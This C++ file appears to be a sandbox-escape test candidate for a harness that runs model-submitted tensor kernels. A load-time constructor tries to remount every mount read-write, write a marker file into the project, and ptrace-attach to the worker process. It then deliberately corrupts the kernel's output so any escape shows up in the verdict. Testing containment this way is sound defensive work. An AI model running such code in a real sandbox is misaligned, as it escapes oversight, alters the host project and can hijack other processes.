// Privileges inside the sandbox (issue 13): the sandbox's view is read-only because of how it
// is mounted, and the worker is a process of the same user. With the capabilities a root-run
// bwrap, or unshare's namespace root, leaves a process, it remounts every mount read-write
// and writes a file into the project (@PROJECT@, which a model can find in the paths it sees); it also
// attaches to the worker with ptrace, which would let it run code in every later candidate's
// process. It reports on stderr what it got, and where it got anything its results are
// wrong, so the verdict says whether any of it worked. Otherwise the kernel is honest.
#include <dlpack/dlpack.h>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

bool g_gained = false;

__attribute__((constructor)) void escalate() {
  const pid_t worker = getppid();
  int remounted = 0, wrote = 0, traced = 0;
  if (FILE* mi = fopen("/proc/self/mountinfo", "r")) {
    char line[4096];
    while (fgets(line, sizeof line, mi)) {
      char mp[2048];
      if (sscanf(line, "%*s %*s %*s %*s %2047s", mp) != 1) continue;
      if (mount(nullptr, mp, nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0 ||
          mount(nullptr, mp, nullptr, MS_REMOUNT, nullptr) == 0)
        ++remounted;
    }
    fclose(mi);
  }
  if (FILE* f = fopen("@PROJECT@/pwned-by-c16.txt", "w")) {
    fputs("written from inside the sandbox\n", f);
    fclose(f);
    wrote = 1;
  }
  if (ptrace(PTRACE_ATTACH, worker, nullptr, nullptr) == 0) {
    traced = 1;
    int status = 0;
    waitpid(worker, &status, __WALL);
    ptrace(PTRACE_DETACH, worker, nullptr, nullptr);
  }
  fprintf(stderr, "c16: remounted %d, wrote %d, traced %d\n", remounted, wrote, traced);
  g_gained = remounted || wrote || traced;
}

}  // namespace

extern "C" int maxcode_run(const DLTensor* in, int32_t n_in, DLTensor* out, int32_t n_out, void* stream) {
  const float* x = static_cast<const float*>(in[0].data);
  const float* b = static_cast<const float*>(in[1].data);
  float* y = static_cast<float*>(out[0].data);
  const int64_t rows = in[0].shape[0], cols = in[0].shape[1];
  for (int64_t r = 0; r < rows; ++r)
    for (int64_t c = 0; c < cols; ++c) {
      float v = x[r * cols + c] * 2.0f + b[c];
      v = v < 0.f ? 0.f : v;  // relu (NaN stays NaN, as in torch)
      v = tanhf(v);
      y[r * cols + c] = g_gained ? 0.f : v * v - 0.5f;
    }
  return 0;
}
